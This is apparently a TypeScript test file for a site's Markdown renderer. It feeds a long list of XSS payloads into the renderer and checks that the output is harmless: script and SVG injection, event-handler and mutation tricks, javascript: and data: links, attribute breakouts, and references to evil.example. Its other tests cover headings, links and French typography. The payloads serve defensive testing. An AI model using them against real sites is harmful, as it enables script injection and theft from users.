import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './markdown.ts';

const NARROW = '\u202f';
const NO_BREAK = '\u00a0';

/** Tags and attributes that a page may contain after rendering; everything else is a hole. */
const HARMLESS =
  /^<\/?(?:p|br|hr|strong|em|del|sup|code|pre|blockquote|ul|ol|li|a|img|h[2-6]|table|thead|tbody|tr|th|td)(?: (?:href|title|rel|src|alt|start|align)="[^"<>]*")* ?\/?>$/;

function expectHarmless(html: string): void {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    expect(tag).toMatch(HARMLESS);
    for (const [, name, url = ''] of tag.matchAll(/ (href|src)="([^"]*)"/g)) {
      expect(url).toMatch(name === 'src' ? /^\/[\w-]/ : /^(?:https?:\/\/|mailto:|tel:|(?!\/\/)[^:]*$)/i);
    }
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'text <script src=//evil.example></script> text',
  '<img src=x onerror=alert(1)>',
  'a <img src="x" onerror="alert(1)"> b',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<xmp><script>alert(1)</script></xmp>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example";</style>',
  '<style><!--</style><img src=x onerror=alert(1)>-->',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<form action="//evil.example"><input name=password></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<p style="position:fixed;inset:0">x</p>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<pre><<b>script>alert(1)<</b>/script></pre>',
  'a <pre><<b>img src=x onerror=alert(1)></pre>',
  'a <code><<i>svg onload=alert(1)></code>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript:alert(1) "t")',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](https://a.example"onmouseover="alert(1))',
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png)',
  '![x](/\\evil.example/pixel.png)',
  '![x](/%09/evil.example/pixel.png)',
  '![x](/&#9;/evil.example/pixel.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x"onerror="alert(1)](/logo.png)',
  '![x](/logo.png "t\\" onerror=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '# <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '**<b onclick=alert(1)>x</b>**',
  '> <script>\n> alert(1)\n> </script>',
];

describe('hostile Markdown', () => {
  test.each(hostile)('%s', (source) => {
    expectHarmless(renderMarkdown(source, 'en'));
    expectHarmless(renderMarkdown(source, 'fr'));
    // Inside other marks, where a parser may take another path.
    expectHarmless(renderMarkdown(`- a\n\n  > ${source.replace(/\n/g, ' ')}\n`, 'fr'));
  });

  test('pieces of it in any order', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '&',
        '](',
        '[',
        '\n',
        '</',
        '<pre>',
        '<!--',
        '-->',
        '\\',
        'on',
        '=',
      ),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) =>
        expectHarmless(renderMarkdown(pieces.join(''), 'fr')),
      ),
      { numRuns: 1000 },
    );
  });

  test('is dropped, and the words around it stay', () => {
    expect(renderMarkdown('Hello <b onclick="x()">you</b> <script>x()</script>', 'en')).not.toMatch(
      /onclick|<script/,
    );
    expect(renderMarkdown('Hello <b>you</b>', 'en')).toBe('<p>Hello you</p>');
    expect(renderMarkdown('[x](javascript:alert(1))', 'en')).toBe(
      '<p><a rel="noopener noreferrer">x</a></p>',
    );
    expect(renderMarkdown('&lt;script&gt; &amp; <', 'en')).toBe('<p>&lt;script> &amp; &lt;</p>');
  });
});

describe('Markdown', () => {
  test('headings start at the level of the page, and go no deeper than six', () => {
    expect(renderMarkdown('# A\n## B\n### C', 'en', 3).replace(/\n/g, '')).toBe(
      '<h3>A</h3><h3>B</h3><h4>C</h4>',
    );
    expect(renderMarkdown('###### D', 'en', 4)).toBe('<h6>D</h6>');
    expect(renderMarkdown('## B', 'en')).toBe('<h2>B</h2>');
  });

  test('links to the web, to mail and to this site, each with rel', () => {
    expect(renderMarkdown('[a](https://a.example/?b=c&d) [b](/method) [c](mailto:a@b.example)', 'en')).toBe(
      '<p><a href="https://a.example/?b=c&amp;d" rel="noopener noreferrer">a</a> ' +
        '<a href="/method" rel="noopener noreferrer">b</a> ' +
        '<a href="mailto:a@b.example" rel="noopener noreferrer">c</a></p>',
    );
  });

  test('images of this site', () => {
    expect(renderMarkdown('![Logo](/images/logo.svg)', 'en')).toBe(
      '<p><img src="/images/logo.svg" alt="Logo" /></p>',
    );
  });

  test('lists and tables', () => {
    expect(renderMarkdown('1. a\n2. b', 'en').replace(/\n/g, '')).toBe('<ol><li>a</li><li>b</li></ol>');
    expect(renderMarkdown('| a |\n|--:|\n| 1 |', 'en')).toContain('<td align="right">1</td>');
  });

  test('French text is set as French', () => {
    expect(renderMarkdown("Vraiment ? Oui ! L'un ; « l'autre » : 95 %, 30 €.", 'fr')).toBe(
      `<p>Vraiment${NARROW}? Oui${NARROW}! L’un${NARROW}; «${NARROW}l’autre${NARROW}»${NO_BREAK}: 95${NARROW}%, 30${NO_BREAK}€.</p>`,
    );
    expect(renderMarkdown('**Vraiment** ? Oui!', 'fr')).toBe(
      `<p><strong>Vraiment</strong>${NARROW}? Oui${NARROW}!</p>`,
    );
  });

  test('English text has no space before its marks', () => {
    expect(renderMarkdown("Really? It's so; 95 %.", 'en')).toBe('<p>Really? It’s so; 95%.</p>');
  });

  test('code, addresses and character references are not touched', () => {
    expect(renderMarkdown('`a ; b ! c`', 'fr')).toBe('<p><code>a ; b ! c</code></p>');
    expect(renderMarkdown('<https://a.example/?b;c>', 'fr')).toContain('>https://a.example/?b;c</a>');
    expect(renderMarkdown('a &amp; b à 10:30', 'fr')).toBe('<p>a &amp; b à 10:30</p>');
  });
});
